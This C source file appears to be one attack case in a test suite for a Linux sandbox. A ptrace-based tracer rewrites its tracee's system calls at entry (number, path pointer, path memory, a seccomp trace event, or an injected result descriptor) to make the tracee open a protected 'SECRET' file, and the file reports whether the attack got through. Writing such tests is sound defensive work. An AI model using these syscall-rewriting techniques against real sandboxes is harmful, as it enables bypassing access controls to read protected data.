/*
 * rewrite HOW GOOD BAD: a tracer changes the call of its tracee once the kernel has taken it up (ATTACKS D9). Got: the tracee reads BAD,
 * which begins with "SECRET".
 *
 *   number   getppid becomes openat of BAD, at a syscall-entry stop
 *   path     openat's path becomes BAD, at a syscall-entry stop
 *   memory   the text behind openat's path pointer is written over at a syscall-entry stop
 *   event    getppid becomes openat, at a stop that a filter of the tracee's own asks for (SECCOMP_RET_TRACE)
 *   result   openat of BAD becomes getppid, and the tracee's result the descriptor that the tracer opened
 *            (it has none: the tracer is judged as well)
 */
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/user.h>

#include "attack.h"

static char text[4096];

static void own_filter(void)
{
	struct sock_filter f[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_getppid, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_TRACE),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog prog = {sizeof(f) / sizeof(f[0]), f};

	if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0 || prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &prog) < 0)
		die("own filter");
}

static void tracee(const char *how, const char *good, const char *bad)
{
	bool number = strcmp(how, "number") == 0 || strcmp(how, "event") == 0;
	long fd;

	if (strcmp(how, "event") == 0)
		own_filter();
	strcpy(text, number || strcmp(how, "result") == 0 ? bad : good);
	raise(SIGSTOP);
	fd = syscall(number ? SYS_getppid : SYS_openat, AT_FDCWD, text, O_RDONLY);
	_exit(attack_is_secret((int)fd) ? GOT : HELD);
}

/* At the tracee's entry into the call that is to be changed. True: it was changed. */
static bool change(pid_t pid, const char *how, const char *bad)
{
	bool number = strcmp(how, "number") == 0 || strcmp(how, "event") == 0;
	struct user_regs_struct r;
	size_t len = (strlen(bad) + 1 + 7) & ~(size_t)7;
	char copy[4096] = "";

	if (ptrace(PTRACE_GETREGS, pid, NULL, &r) < 0)
		die("PTRACE_GETREGS");
	if (r.orig_rax != (number ? SYS_getppid : SYS_openat) || r.rax != (unsigned long long)-ENOSYS)
		return false;
	if (number) {
		r.orig_rax = SYS_openat;
	} else if (strcmp(how, "result") == 0) {
		r.orig_rax = SYS_getppid;
	} else {
		unsigned long long to = strcmp(how, "path") == 0 ? (unsigned long long)(uintptr_t)text + 2048 : r.rsi;

		strcpy(copy, bad);
		for (size_t i = 0; i < len; i += 8) {
			long word;

			memcpy(&word, copy + i, 8);
			if (ptrace(PTRACE_POKEDATA, pid, (void *)(uintptr_t)(to + i), (void *)word) < 0)
				die("PTRACE_POKEDATA");
		}
		r.rsi = to;
	}
	if (ptrace(PTRACE_SETREGS, pid, NULL, &r) < 0)
		die("PTRACE_SETREGS");
	return true;
}

/* At the exit from it: what the tracer could open becomes the result, by its number in a table they share. */
static void give(pid_t pid, const char *bad)
{
	struct user_regs_struct r;
	int fd = open(bad, O_RDONLY);

	if (ptrace(PTRACE_GETREGS, pid, NULL, &r) < 0)
		die("PTRACE_GETREGS");
	r.rax = fd < 0 ? (unsigned long long)-EACCES : (unsigned long long)fd;
	if (ptrace(PTRACE_SETREGS, pid, NULL, &r) < 0)
		die("PTRACE_SETREGS");
}

int main(int argc, char **argv)
{
	bool event = argc == 4 && strcmp(argv[1], "event") == 0, result = argc == 4 && strcmp(argv[1], "result") == 0, changed = false;
	long options = PTRACE_O_EXITKILL | PTRACE_O_TRACESYSGOOD | (event ? PTRACE_O_TRACESECCOMP : 0);
	enum __ptrace_request go = event ? PTRACE_CONT : PTRACE_SYSCALL;
	int status;
	pid_t pid;

	if (argc != 4)
		die("rewrite HOW GOOD BAD");
	pid = (pid_t)syscall(SYS_clone, SIGCHLD | (result ? CLONE_FILES : 0), NULL, NULL, NULL, NULL);
	if (pid == 0) {
		if (ptrace(PTRACE_TRACEME, 0, NULL, NULL) < 0)
			die("PTRACE_TRACEME");
		tracee(argv[1], argv[2], argv[3]);
	}
	if (waitpid(pid, &status, 0) != pid || !WIFSTOPPED(status) || ptrace(PTRACE_SETOPTIONS, pid, NULL, (void *)options) < 0)
		die("start");
	while (!changed) {
		if (ptrace(go, pid, NULL, NULL) < 0 || waitpid(pid, &status, 0) != pid || !WIFSTOPPED(status))
			break;
		changed = change(pid, argv[1], argv[3]);
	}
	if (changed && result && ptrace(PTRACE_SYSCALL, pid, NULL, NULL) == 0 && waitpid(pid, &status, 0) == pid && WIFSTOPPED(status))
		give(pid, argv[3]);
	if (changed && (ptrace(PTRACE_CONT, pid, NULL, NULL) < 0 || waitpid(pid, &status, 0) != pid))
		die("end");
	/* Not to have come so far is a broken test, but that a filter may have taken the call first (event). */
	if (!changed && !event)
		return BROKEN;
	attack_exit(WIFEXITED(status) && WEXITSTATUS(status) == GOT);
}
